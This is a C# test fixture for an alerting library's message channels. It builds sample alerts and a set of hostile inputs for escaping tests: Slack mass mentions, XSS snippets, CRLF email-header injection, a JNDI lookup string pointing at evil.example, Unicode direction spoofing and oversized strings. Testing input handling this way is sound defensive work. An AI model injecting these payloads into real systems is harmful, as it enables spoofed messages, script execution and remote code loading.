using BinAuthz.Alerting;
using BinAuthz.Denials;

namespace BinAuthz.Tests.Alerting;

/// <summary>Alerts to try channels with.</summary>
internal static class SampleAlerts
{
    private static readonly DateTimeOffset Noon = new(2026, 10, 1, 12, 0, 0, TimeSpan.Zero);

    /// <summary>What attackers write into image names, annotations and log lines.</summary>
    public static IReadOnlyDictionary<string, string> Hostile { get; } = new Dictionary<string, string>
    {
        ["slack mention"] = "<!channel> <@U012AB3CD> <!subteam^S1|all>",
        ["slack link"] = "<http://evil.example|click>",
        ["mrkdwn"] = "*bold* _it_ ~no~ `code` ```block``` :bomb:",
        ["everyone"] = "@everyone @here @channel <users/all> <at>everyone</at>",
        ["html"] = "<a href=\"javascript:alert(1)\">x</a><script>alert(1)</script><img src=x onerror=y>&lt;b&gt;",
        ["markdown"] = "[click](http://evil.example) ![](http://evil.example/p.png) # head\n- item\n> quote",
        ["lines"] = "first\r\nSubject: forged\r\n\r\nBcc: all@example.com\n.\nQUIT\r",
        ["controls"] = "a\u0000b\u0007c\u001b[31md\u007f\u0085e\u2028f",
        ["direction"] = "abc\u202Egnp.exe\u202C \u2066x\u2069 \u200Bzero\u200Dwidth\uFEFF",
        ["half a pair"] = "\uD83D alone \uDE00",
        ["json"] = "\",\"text\":\"<!channel>\",\"x\":\"\\",
        ["template"] = "{{constructor}} ${jndi:ldap://evil.example/a} %0d%0aBcc:x",
        ["emoji"] = string.Concat(Enumerable.Repeat("😀", 25_000)),
        ["long"] = new string('x', 100_000),
        ["long ampersands"] = new string('&', 100_000),
        ["long lines"] = string.Concat(Enumerable.Repeat("ein Wort\n", 11_000)),
        ["long Chinese"] = new string('漢', 100_000),
        ["blank"] = " \t\n ",
    };

    /// <summary>An alert with as little in it as there can be.</summary>
    public static Alert Minimal(AlertStage stage = AlertStage.First) =>
        new("id-1", stage, FindingKind.Denial, AlertSeverity.Error, "production", "Denied", "An image was denied.", "", 1, Noon, Noon);

    /// <summary>An alert with everything in it.</summary>
    public static Alert Maximal(AlertStage stage = AlertStage.First) => Filled("text", stage);

    /// <summary>An alert all of whose texts are one text.</summary>
    public static Alert Filled(string text, AlertStage stage = AlertStage.First, FindingKind kind = FindingKind.Denial, AlertSeverity severity = AlertSeverity.Critical) =>
        new(text, stage, kind, severity, text, text, text, text, 10_000, Noon, Noon.AddHours(1))
        {
            Cause = DiagnosisCause.NotAttested,
            Group = text,
            Facts = [.. new[] { "image", "project", "cluster", "namespace", "workload", "principal", "attestors", "commit", "resource", "rule", "report", "method", "justification", "codes", "logEntry" }.Select(name => KeyValuePair.Create(name, text))],
            Message = text,
            Items = [.. Enumerable.Repeat(text.Length > 10_000 ? text[..10_000] : text, 30)],
        };

    /// <summary>Every stage, kind and severity, with little and with much; then everything that is hostile.</summary>
    public static IEnumerable<(string Name, Alert Alert)> All()
    {
        foreach (var stage in Enum.GetValues<AlertStage>())
        {
            yield return ($"minimal {stage}", Minimal(stage));
            yield return ($"maximal {stage}", Maximal(stage));
        }

        foreach (var kind in Enum.GetValues<FindingKind>())
        {
            yield return ($"kind {kind}", Filled("text", kind: kind));
        }

        foreach (var severity in Enum.GetValues<AlertSeverity>())
        {
            yield return ($"severity {severity}", Filled("text", severity: severity));
        }

        foreach (var (name, text) in Hostile)
        {
            yield return ($"hostile {name}", Filled(text));
        }
    }
}
